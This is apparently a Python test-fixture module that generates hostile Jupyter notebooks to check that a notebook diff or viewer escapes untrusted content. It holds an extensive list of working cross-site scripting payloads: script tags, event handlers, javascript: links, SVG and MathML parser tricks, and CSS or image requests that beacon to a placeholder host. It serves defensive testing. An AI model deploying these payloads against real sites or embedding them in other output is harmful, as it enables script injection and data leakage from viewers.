"""Notebooks that want something to run, or to be fetched, when someone looks at their copies."""

# ruff: noqa: E501, RUF001 - an attack stands on one line, in the letters that it is made of

from collections.abc import Iterator
from typing import Any, NamedTuple

from inside.diffs.written import code, failed, markdown, notebook, printed, raw, result, shown, text64

HOST = "HOST"
"""Stands for the address of who is to be told."""
RUN = f"document.title='RAN',new Image().src='http://{HOST}/ran'"
TITLE = "document.title='RAN'"
ENTITIES = "".join(f"&#{ord(each)};" for each in RUN)
SVG = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'

LIVE = {
    "script": f"<script>{RUN}</script>",
    "script in capitals": f"<SCRIPT >{RUN}</SCRIPT\t>",
    "script with a slash": f"<script/x>{RUN}</script>",
    "script from afar": f"<script src='http://{HOST}/a.js'></script>",
    "script as data": f'<script src="data:text/javascript,{RUN}"></script>',
    "module": f"<script type=module>{RUN}</script>",
    "image": f"<img src=x onerror=\"{RUN}\">",
    "image without quotes": f"<img/src='x'/onerror={RUN.replace(' ', '/**/')}>",
    "image in capitals": f"<IMG SRC=x ONERROR=\"{RUN}\">",
    "image, handler in entities": f'<img src=x onerror="{ENTITIES}">',
    "image, line ends": f'<img\nsrc=x\n\n\nonerror\n=\n"{RUN}"\n>',
    "image, form feed": f'<img\fsrc=x\fonerror="{RUN}">',
    "image, two sources": f'<img src="a.png" src=x srcset="http://{HOST}/set 1x" onload=1>',
    "image, quotes that mislead": f'<img alt="<x" title=\'>"\' src=x onerror="{RUN}">',
    "image, equals sign as a name": f'<img ="a" src=x onerror="{RUN}" =">',
    "image from afar": f'<img src="http://{HOST}/far.png">',
    "image without a scheme": f"<base href='http://a/'><img src='//{HOST}/far.png'>",
    "image, lazy": f'<img loading=lazy src="http://{HOST}/far.png">',
    "picture": f'<picture><source srcset="http://{HOST}/a"><img src=x></picture>',
    "svg": f"<svg onload=\"{RUN}\"></svg>",
    "svg, script": f"<svg><script>{RUN}</script></svg>",
    "svg, script in entities": f"<svg><script>{ENTITIES}</script></svg>",
    "svg, animation": f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s></svg>',
    "svg, foreign object": f"<svg><foreignObject><img src=x onerror=\"{RUN}\"></foreignObject></svg>",
    "svg, image from afar": f'<svg {SVG}><image href="http://{HOST}/a" width="9" height="9"/></svg>',
    "svg, style": f"<svg {SVG}><style>@import url('http://{HOST}/a.css');</style><path d='M0 0h9'/></svg>",
    "math": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/style&gt;'
            f'&lt;img src=x onerror={ENTITIES}&gt;"></table></mtext></math><img src=x onerror="{RUN}">',
    "math, style that mutates": f"<math><style><img src=x onerror=\"{RUN}\"></style></math>",
    "noscript": f"<noscript><p title=\"</noscript><img src=x onerror='{ENTITIES}'>\"></noscript>",
    "title": f"<title><p title=\"</title><img src=x onerror='{ENTITIES}'>\"></title>",
    "textarea": f"<textarea><p title=\"</textarea><img src=x onerror='{ENTITIES}'>\"></textarea>",
    "raw text": f"<xmp><p title=\"</xmp><img src=x onerror='{ENTITIES}'>\"></xmp>",
    "noembed": f"<noembed><p title=\"</noembed><img src=x onerror='{ENTITIES}'>\"></noembed>",
    "comment": f"<!--><img src=x onerror=\"{RUN}\">-->",
    "comment, dash": f"<!---><img src=x onerror=\"{RUN}\">",
    "comment, other end": f"<!--a--!><img src=x onerror=\"{RUN}\">",
    "cdata": f"<![CDATA[><img src=x onerror=\"{RUN}\">]]>",
    "question mark": f"<?a ><img src=x onerror=\"{RUN}\">?>",
    "end tag with attributes": f"</p x=\"><img src=x onerror='{ENTITIES}'>\"><img src=x onerror=\"{RUN}\">",
    "broken nesting": f"<table><a><tr><b></table><svg></p><img src=x onerror=\"{RUN}\">",
    "deep": "<div>" * 600 + f"<img src=x onerror=\"{RUN}\">",
    "our own end": f"</div></section></main></body></html><img src=x onerror=\"{RUN}\">",
    "end of pre": f"</pre></code></style></script><img src=x onerror=\"{RUN}\">",
    "end of title": f"</title></head><body onload=\"{RUN}\">",
    "body": f"<body onload=\"{RUN}\">",
    "details": f"<details open ontoggle=\"{RUN}\"><summary>a</summary></details>",
    "focus": f"<input autofocus onfocus=\"{RUN}\">",
    "focus of anything": f"<p tabindex=1 autofocus onfocus=\"{RUN}\">a</p>",
    "style": f"<style>@import 'http://{HOST}/a.css';</style>",
    "style, image": f"<style>body {{ background: url(http://{HOST}/a) }}</style>",
    "style, font": f"<style>@font-face {{ font-family: f; src: url(http://{HOST}/f) }} body {{ font-family: f }}</style>a",
    "style, animation": f"<style>@keyframes x {{}} *{{ animation: x 1s }}</style><b onanimationstart=\"{RUN}\">a</b>",
    "style attribute": f'<p style="background: url(http://{HOST}/a)">a</p>',
    "style attribute, hidden": f'<p style="background:u\\72l(http://{HOST}/a);color:red">a</p>',
    "style attribute, comment": f'<p style="background/**/:/**/url(http://{HOST}/a)">a</p>',
    "style attribute, list": f'<ul style="list-style-image: image-set(\'http://{HOST}/a\' 1x)"><li>a</ul>',
    "style of a table": f"<style>#T_1 {{ background: url(http://{HOST}/a) }}</style><table id=T_1><tr><td>1</table>",
    "link": f'<link rel=stylesheet href="http://{HOST}/a.css">',
    "link, preload": f'<link rel=preload as=image href="http://{HOST}/a.png">',
    "link, import": f'<link rel="icon" href="http://{HOST}/a.ico"><link rel=prefetch href="http://{HOST}/p">',
    "frame": f"<iframe srcdoc=\"<script>parent.document.title='RAN';{RUN}</script>\"></iframe>",
    "frame from afar": f'<iframe src="http://{HOST}/a"></iframe>',
    "frame, javascript": f'<iframe src="javascript:void({RUN})"></iframe>',
    "object": f'<object data="http://{HOST}/a"></object>',
    "object, data": f'<object data="data:text/html,<script>new Image().src=\'http://{HOST}/o\'</script>"></object>',
    "embed": f'<embed src="http://{HOST}/a">',
    "video": f'<video poster="http://{HOST}/a" src="http://{HOST}/v"></video>',
    "video, handler": f'<video><source onerror="{RUN}"></video>',
    "audio": f'<audio src=x onerror="{RUN}"></audio>',
    "refresh": f'<meta http-equiv=refresh content="0;url=http://{HOST}/a">',
    "form": f'<form action="javascript:void({RUN})"><button>a</button></form>',
    "form, button": f'<form><button formaction="javascript:void({RUN})">a</button></form>',
    "template": f"<template shadowrootmode=open><img src=x onerror=\"{RUN}\"></template><div><template "
                f"shadowrootmode=open><img src=x onerror=\"{RUN}\"></template></div>",
    "own element": f"<x-a onclick=\"{RUN}\" style='animation: none'>a</x-a><style>x-a:hover{{}}</style>",
    "javascript link": f'<a href="javascript:void({RUN})">a</a>',
    "javascript link, capitals": f'<a href=" JaVaScRiPt:void({RUN})">a</a>',
    "javascript link, entities": f'<a href="&#106;ava&Tab;script&colon;void({RUN})">a</a>',
    "javascript link, control": f'<a href="&#1;javascript:void({RUN})">a</a>',
    "javascript link, line end": f'<a href="java\nscript:void({RUN})">a</a>',
    "javascript area": f'<map name=m><area href="javascript:void({RUN})" shape=default></map><img usemap=#m src=x width=9 height=9>',
    "javascript in svg": f'<svg {SVG}><a xlink:href="javascript:void({RUN})"><text y="9">a</text></a></svg>',
    "ping": f'<a href="#a" ping="http://{HOST}/ping">a</a>',
    "popover": f"<button popovertarget=p>a</button><p id=p popover onbeforetoggle=\"{RUN}\">b</p>",
}  # fmt: skip
"""HTML that does it in a browser, most of it as soon as it is seen, the links when they are clicked."""

TEXTS = {
    "markdown, javascript link": f"[a](javascript:{RUN.replace('(', '%28').replace(')', '%29')})",
    "markdown, capitals": "[a](JAVASCRIPT:document.title='RAN')",
    "markdown, entities": "[a](&#106;avascript&colon;document.title='RAN')",
    "markdown, in brackets": "[a](<javascript:document.title='RAN'>)",
    "markdown, control": "[a](<\x01javascript:document.title='RAN'>) [b](<java\tscript:document.title='RAN'>)",
    "markdown, by reference": "[a][b]\n\n[b]: javascript:document.title='RAN'",
    "markdown, bare": "<javascript:document.title='RAN'> <vbscript:a> <data:text/html,a>",
    "markdown, data link": "[a](data:text/html;base64," + text64("<script>alert(1)</script>") + ")",
    "markdown, vbscript": "[a](vbscript:msgbox(1)) [b](view-source:file:///) [c](blob:x) [d](filesystem:x)",
    "markdown, image": f'![a](x"onerror="{RUN}) ![b](javascript:void({RUN}))',
    "markdown, title": f"[a](b \"c' onmouseover='{RUN}' \\\" onmouseover=\\\"{RUN}\") [x](y '\" onclick=\"{RUN}')",
    "markdown, image's title": f"![a\" onerror=\"{RUN}](x '\" onerror=\"{RUN}')",
    "markdown, image from afar": f"![a](http://{HOST}/a.png) ![b](//{HOST}/b.png) ![c](\\\\{HOST}\\c.png)",
    "markdown, heading": f"# \"><img src=x onerror=\"{RUN}\">\n\n## ' onmouseover='{RUN}",
    "markdown, fence": f"```\"><img/src=x/onerror={RUN}>\na\n```\n\n```html\n<img src=x onerror=\"{RUN}\">\n```",
    "markdown, diagram": f"```mermaid\nA[\"<img src=x onerror='{RUN}'>\"]\nclick A javascript:void({RUN})\n```",
    "markdown, table": f"|a|\n|--|\n|<img src=x onerror=\"{RUN}\">|\n|[a](javascript:void({RUN}))|",
    "markdown, code": f"`<img src=x onerror=\"{RUN}\">` ``</code><img src=x onerror=\"{RUN}\">``",
    "markdown, block": f"<div>\n\n*a* <img src=x\n\nonerror=\"{RUN}\">\n\n</div>",
    "markdown, attachment": f"![a](attachment:x\"onerror=\"{RUN}) <img src=\"attachment:a' onerror='{RUN}'\">",
    "script without an end": f"<script>{RUN}",
    "markup without an end": f"<img src=x onerror=\"{RUN}\"",
    "embedded svg": f'<embed src="data:image/svg+xml,<svg onload=\'{ENTITIES}\'/>">',
    "javascript in math": f'<math><mi href="javascript:void({RUN})" xlink:href="javascript:void({RUN})">a</mi></math>',
    "formula": f"$<img src=x onerror=\"{RUN}\">$ $$</code><img src=x onerror=\"{RUN}\">$$",
    "formula, link": f"$\\href{{javascript:void({RUN})}}{{a}}$ $\\unicode{{<script>{RUN}</script>}}$",
    "formula, environment": f"\\begin{{align}}<script>{RUN}</script>\\end{{align}}",
    "ansi": f"\x1b[31m<img src=x onerror=\"{RUN}\">\x1b[38;2;1;2;3m\x1b]8;;javascript:void({RUN})\x07a\x1b]8;;\x07",
    "ansi, in a colour": f"\x1b[38;2;0;0;<img src=x onerror='{RUN}'>m a \x1b[\"><script>{RUN}</script>m",
    "control characters": f"<\0img src=x onerror=\"{RUN}\"> <\x08script>{RUN}</script> <\x1b[1mscript>{RUN}</script>",
    "letters alike": f"＜script＞{RUN}＜/script＞ \u2028<img\u00a0src=x onerror=\"{RUN}\"> <ſcript>{RUN}</ſcript>",
}  # fmt: skip
"""Text that would become such HTML where it is not escaped."""


class Attack(NamedTuple):
    """A notebook, its name, and what it is."""

    title: str
    content: bytes
    name: str = "a"


def attacks() -> Iterator[Attack]:
    """All notebooks. Whom they want to tell is `HOST`."""
    for title, text in {**LIVE, **TEXTS}.items():
        yield Attack(title, notebook(*_everywhere(text)))
    for title, cell in _cells().items():
        yield Attack(title, notebook(cell))
    yield from _names()


def _everywhere(text: str) -> list[dict[str, Any]]:
    """The text in every place that a notebook has for text."""
    return [
        markdown(text),
        markdown(f"before {text} after\n\nmore"),
        raw(text),
        code(text),
        code(f"%%html\n{text}"),
        code(
            "",
            result({"text/html": text}),
            shown({"text/html": f"<table><tr><td>{text}</td></tr></table><p>{text}"}),
            shown({"text/markdown": text, "text/plain": text}),
            shown({"text/latex": text}),
            shown({"text/plain": text}),
            shown({"application/json": {text: [text]}}),
            shown({"image/png": "!", "text/plain": text}),
            shown({"application/vnd.jupyter.widget-view+json": {"model_id": text}, "text/plain": text}),
            printed(text),
            printed(text, "stderr"),
            failed(text, text, text),
            failed(text, text),
        ),
    ]


def _cells() -> dict[str, dict[str, Any]]:
    svg = f'<svg {SVG} onload="{TITLE}"><script>{RUN}</script><path d="M0 0h9v9z" onclick="{TITLE}" onload="{RUN}"/>%s</svg>'
    html = f"<script>{RUN}</script>"
    return {
        "svg output": code("", shown({"image/svg+xml": svg % ""})),
        "svg output, page within": code(
            "",
            shown({"image/svg+xml": svg % f'<foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="{RUN}"/></foreignObject>'}),
        ),
        "svg output, links": code(
            "", shown({"image/svg+xml": svg % f'<a href="javascript:void({RUN})"><text y="9">a</text></a><use href="data:image/svg+xml,a#b"/>'})
        ),
        "svg output, animation": code(
            "",
            shown({"image/svg+xml": svg % f'<a id="l"><text>a</text><set attributeName="href" to="javascript:void({RUN})"/></a>'}),
        ),
        "svg output, from afar": code(
            "",
            shown({"image/svg+xml": svg % f'<image href="http://{HOST}/a"/><rect fill="url(http://{HOST}/b#c)" style="filter:url(http://{HOST}/d#e)"/>'}),
        ),
        "svg output, style sheet": code(
            "",
            shown({"image/svg+xml": f'<?xml-stylesheet href="http://{HOST}/a.css"?>' + svg % f"<style>@import 'http://{HOST}/b.css'; path {{ fill: u\\72l(http://{HOST}/c) }}</style>"}),
        ),
        "svg output, entities": code(
            "", shown({"image/svg+xml": f'<!DOCTYPE svg [<!ENTITY x SYSTEM "http://{HOST}/x">]><svg {SVG}>&x;<path d="M0 0h9"/></svg>'})
        ),
        "svg output, handler namespace": code(
            "",
            shown({"image/svg+xml": svg % f'<handler xmlns="http://www.w3.org/2001/xml-events" ev:event="load" xmlns:ev="http://www.w3.org/2001/xml-events">{RUN}</handler>'}),
        ),
        "svg output, html within": code("", shown({"image/svg+xml": f"<svg {SVG}><h:script xmlns:h='http://www.w3.org/1999/xhtml'>{RUN}</h:script><path d='M0 0h9'/></svg>"})),
        "png that is html": code("", shown({"image/png": text64(html), "image/jpeg": text64(html), "image/gif": text64(html)})),
        "png with quotes": code("", shown({"image/png": f'"><img src=x onerror="{RUN}">'})),
        "mime type": code("", shown({f'text/<img src=x onerror="{RUN}">': html, "text/x\"'><script>": html})),
        "javascript output": code("", shown({"application/javascript": RUN}), shown({"text/javascript": RUN})),
        "vega": code("", shown({"application/vnd.vega.v5+json": {"signals": [{"name": "a", "init": RUN}], "title": html}})),
        "plotly": code("", shown({"application/vnd.plotly.v1+json": {"layout": {"title": html}}, "text/html": html})),
        "bokeh": code("", shown({"application/vnd.bokehjs_load.v0+json": "", "application/javascript": RUN, "text/html": html})),
        "unknown output": code("", shown({"application/x-run": html})),
        "attachment, svg": markdown("![a](attachment:a.svg)", **{"a.svg": {"image/svg+xml": text64(svg % "")}}),
        "attachment, html": markdown("![a](attachment:a) [b](attachment:a)", a={"text/html": text64(html)}),
        "attachment, names": markdown(
            f"![a](attachment:..%2F..%2Fa.png) ![b](attachment:x\"><script>{RUN}</script>)",
            **{"../../a.png": {"image/png": text64(html)}, f'x"><script>{RUN}</script>': {"image/png": text64(html)}},
        ),
        "image as data": markdown(f'<img src="data:image/svg+xml;base64,{text64(svg % "")}">'),
        "image as data, html": markdown(f'<img src="data:text/html;base64,{text64(html)}"><a href="data:image/svg+xml;base64,{text64(svg % "")}">a</a>'),
        "metadata of a cell": code("x", count=1, tags=[html, f'"><img src=x onerror="{RUN}">'], name=html, title=html),
        "metadata of an output": code("", shown({"text/plain": "a"}, **{"text/html": html, html: html})),
        "image sizes": code("", shown({"text/html": f'<img src="a.png" width="1 onerror={RUN}" height=\'"onerror="{RUN}\'>'})),
        "classes": code("", shown({"text/html": f'<b class=\'left-out "onclick="{RUN}\' id=\'"onclick="{RUN}\'>a</b>'})),
        "fallback": code("", shown({"text/html": "text-repr-fallback" + html, "text/plain": html})),
    }  # fmt: skip


def _names() -> Iterator[Attack]:
    html = f'"><img src=x onerror="{RUN}">'.replace("/", "\u2215")
    quiet = code("1", shown({"text/html": "<img src='data:image/gif;base64,R0lGODlhAQABAAAAACw='>"}))
    yield Attack("name, quotes and tags", notebook(quiet), "a\"'><b onclick=RAN()>&amp;<\\title>")
    yield Attack("name, image", notebook(quiet), '"><img src=x onerror=document.title=1>')
    yield Attack("name, address", notebook(quiet), "javascript:alert(1)#?%2F..")
    yield Attack("name, template", notebook(quiet), "{{ 7 * 7 }}{% include 'style.css' %}")
    yield Attack("kernel", notebook(quiet, name=html, language=html))
    yield Attack("language", notebook(*_everywhere(html), language_info={"name": html, "pygments_lexer": html}))
    yield Attack("metadata", notebook(quiet, title=html, authors=[{"name": html}], widgets={"application/x": html}))
    state = {"state": {"a": {"model_name": "HTMLModel", "state": {"value": html}}}}
    widget = shown({"application/vnd.jupyter.widget-view+json": {"model_id": "a"}, "text/plain": "HTML(value='')"})
    yield Attack(
        "widget state", notebook(code("", widget), widgets={"application/vnd.jupyter.widget-state+json": state})
    )
